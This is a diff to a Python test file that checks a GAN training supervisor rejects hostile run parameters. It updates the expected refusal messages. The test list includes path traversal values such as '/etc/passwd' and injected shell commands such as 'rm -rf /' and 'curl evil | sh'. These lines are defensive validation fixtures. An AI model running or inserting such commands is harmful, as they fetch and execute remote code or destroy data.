@@ -22,15 +22,15 @@ HOSTILE = [  # (RunParams fields, words the refusal must contain)
     ({"overrides": "ckpt_path=/etc/passwd"}, "inside"),
     ({"overrides": "ckpt_path=../../etc/last.ckpt"}, "inside"),
     ({"overrides": "run_dir=/tmp/x"}, "'run_dir' is not allowed"),
-    ({"epochs": -1}, "epochs must be between 1"),
+    ({"epochs": -1}, "Epochs must be between 1"),
     ({"epochs": 2.5}, "whole number"),
     ({"epochs": True}, "finite number"),
-    ({"batch_size": 10**9}, "batch_size must be between 1 and 4096"),
+    ({"batch_size": 10**9}, "Batch size must be between 1 and 4096"),
     ({"batch_size": "10**9"}, "must be a number"),
     ({"lr_g": float("nan")}, "finite number"),
-    ({"loss": "hinge; rm -rf /"}, "loss must be one of"),
-    ({"dataset": "../../etc"}, "dataset must be one of"),
-    ({"logger": "wandb", "wandb_project": "x && curl evil | sh"}, "wandb_project"),
+    ({"loss": "hinge; rm -rf /"}, "Loss must be one of"),
+    ({"dataset": "../../etc"}, "Dataset must be one of"),
+    ({"logger": "wandb", "W&B project": "x && curl evil | sh"}, "W&B project"),
     ({"shell": "rm -rf /"}, "unknown run parameter"),
 ]
 
@@ -80,8 +80,8 @@ def test_space_bounds_or_disables_training(tmp_path, monkeypatch):
     monkeypatch.setenv("GAN_SPACE_TRAINING", "1")
     monkeypatch.setenv("GAN_MAX_RUNS", "4")
     assert Supervisor(tmp_path).max_running == 1  # one run at a time on a Space, whatever the env says
-    with pytest.raises(ParamError, match="epochs must be between 1 and 3"):
+    with pytest.raises(ParamError, match="Epochs must be between 1 and 3"):
         Supervisor(tmp_path).start(RunParams(epochs=10, limit_batches=10))
-    with pytest.raises(ParamError, match="limit_batches must be between 1 and 200"):
+    with pytest.raises(ParamError, match=r"Batches per epoch \(0 = all\) must be between 1 and 200"):
         Supervisor(tmp_path).start(RunParams(epochs=1))
     assert list(tmp_path.iterdir()) == []
